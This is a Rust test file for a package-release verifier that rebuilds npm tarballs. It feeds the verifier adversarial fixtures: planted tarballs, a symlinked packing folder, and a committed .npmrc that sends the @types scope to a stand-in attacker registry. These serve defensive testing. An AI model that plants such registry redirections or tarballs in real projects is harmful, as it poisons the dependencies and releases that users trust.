//! Builds that stand in the way of the packing, scripts that fail before a good one, and trees that lead npm elsewhere.

use countersign_core::{finding::Code, verdict::Outcome};

use super::rig::{BUILT, Bench, NAME, Release, VERSION};

/// An honest build that does this as well.
fn building_and(further: &str) -> Release {
    let script = format!(
        "const fs = require('fs');\nfs.writeFileSync('{BUILT}', 'built\\n');\n{further};\n"
    );
    Release::building(&script, "built\n")
}

/// Without clearing the folder first a planted tarball would be the rebuild, and a link would be our own failure.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_build_leaves_where_the_tarball_is_packed_is_cleared_away() {
    let bench = Bench::new();
    for planted in [
        format!(
            "fs.mkdirSync('/build/packed'); fs.writeFileSync('/build/packed/{NAME}-{VERSION}.tgz', 'x');
             fs.writeFileSync('/build/packed/other.tgz', 'y')"
        ),
        "fs.symlinkSync('/tmp', '/build/packed')".to_owned(),
        "fs.writeFileSync('/build/packed', 'x')".to_owned(),
    ] {
        bench.verify(&building_and(&planted)).await.expect_pass();
    }
    let stuck = building_and("fs.mkdirSync('/build/packed/in/the/way', { recursive: true })");
    bench.verify(&stuck).await.expect(Outcome::Fail, Code::BuildFailed);
    bench.goes_on().await;
}

/// The package's own doing: as our failure it would come back to another worker for ever.
#[tokio::test(flavor = "multi_thread")]
async fn a_rebuild_that_no_reader_takes_is_told_as_such() {
    let bench = Bench::new();
    let package = format!(
        r#"{{"name":"{NAME}","version":"{VERSION}","files":["{BUILT}","more"],"scripts":{{"prepack":"node prepack.js"}}}}"#
    );
    let one_file_on_some_disk =
        "fs.mkdirSync('more'); fs.writeFileSync('more/a', ''); fs.writeFileSync('more/A', '')";
    let told = bench.verify(&building_and(one_file_on_some_disk).with_package(&package)).await;
    told.expect(Outcome::Fail, Code::PlanNotFound);
    let message = &told.judged.verdict.findings[0].message;
    assert!(message.contains("no tarball that we read"), "{message}");
    assert!(told.rebuilt.is_none(), "what cannot be read is not handed in");
    bench.goes_on().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_that_fails_does_not_keep_the_next_one_from_its_work() {
    let scripts = r#""prepublishOnly":"node fails.js","prepack":"node prepack.js""#;
    let package = format!(
        r#"{{"name":"{NAME}","version":"{VERSION}","files":["{BUILT}"],"scripts":{{{scripts}}}}}"#
    );
    let mut release = building_and("").with_package(&package);
    release.committed.push(("fails.js".to_owned(), "process.exit(3)".to_owned()));
    let told = Bench::new().verify(&release).await;
    told.expect(Outcome::Pass, Code::BuildExitedNonzero);
}

/// An npm of these versions runs `prepare` as it packs, whatever it is told: one that installs hooks fails outside of a work tree,
/// and what it writes would be in the tarball.
#[tokio::test(flavor = "multi_thread")]
async fn no_npm_runs_a_script_while_it_packs() {
    let bench = Bench::new();
    for npm in ["8.19.4", "9.9.4", "10.9.9"] {
        let package = format!(
            r#"{{"name":"{NAME}","version":"{VERSION}","packageManager":"npm@{npm}","files":["{BUILT}","more.txt"],
                "scripts":{{"prepare":"exit 3","prepack":"node prepack.js"}}}}"#
        );
        let told = bench.verify(&building_and("").with_package(&package)).await;
        told.expect_pass();
        let packer = told.judged.observations.plan.as_ref().unwrap().packer.to_string();
        assert_eq!(packer, format!("npm {npm}"));
    }
}

/// Followed, the setting would send npm to a host that nobody configured.
#[tokio::test(flavor = "multi_thread")]
async fn a_scope_that_the_tree_sends_elsewhere_is_answered_by_the_registry() {
    let package = format!(
        r#"{{"name":"{NAME}","version":"{VERSION}","files":["{BUILT}"],"scripts":{{"prepack":"node prepack.js"}},
            "devDependencies":{{"@types/estree":"1.0.5"}}}}"#
    );
    let needs = "if (!fs.existsSync('node_modules/@types/estree/index.d.ts')) process.exit(1)";
    let mut release = building_and(needs).with_package(&package);
    let npmrc = "@types:registry=https://registry.attacker.example/\n";
    release.committed.push((".npmrc".to_owned(), npmrc.to_owned()));
    let told = Bench::new().verify(&release).await;
    told.expect(Outcome::Pass, Code::DependenciesUnpinned);
    let why = &told.judged.observations.plan.as_ref().unwrap().why;
    assert!(why.iter().any(|why| why.because.contains("@types:registry")), "{why:?}");
}
